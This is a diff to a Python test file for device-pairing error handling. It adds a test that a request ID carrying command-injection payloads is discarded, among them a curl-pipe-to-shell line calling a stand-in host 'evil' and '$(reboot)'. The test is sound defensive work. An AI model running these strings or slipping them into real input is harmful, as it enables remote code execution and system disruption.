@@ -449,11 +449,25 @@ def test_a_refused_device_token_leads_to_the_stored_secret() -> None:
     assert (decision.action, decision.delay) == (Action.USE_OTHER_CREDENTIAL, 0.0)
 
 
+@pytest.mark.parametrize(
+    "request_id",
+    ["x; curl -s http://evil/x | sh #", "$(reboot)", "-f", "a b", "`id`", "x" * 65, "", 7, None],
+)
+def test_request_id_that_is_more_than_an_id_is_left_out(request_id: object) -> None:
+    """People are told to run a command with it."""
+    shape = ErrorShape.from_payload(
+        {"code": "NOT_PAIRED", "details": {"code": "PAIRING_REQUIRED", "requestId": request_id}}
+    )
+    found = refusal(shape)
+    assert isinstance(found, PairingRequiredError)
+    assert found.request_id == ""
+
+
 def test_a_signature_that_is_refused_again_needs_a_person() -> None:
     """One fresh challenge is tried; the second refusal is no accident."""
     error = refusal(refused(detail="DEVICE_AUTH_SIGNATURE_EXPIRED"))
 
-    decision = decide(Outcome(error=error, failures=1, protocol_errors=2), chance=0.0)
+    decision = decide(Outcome(error=error, failures=1, signature_errors=2), chance=0.0)
 
     assert decision.action is Action.WAIT_FOR_PERSON
 
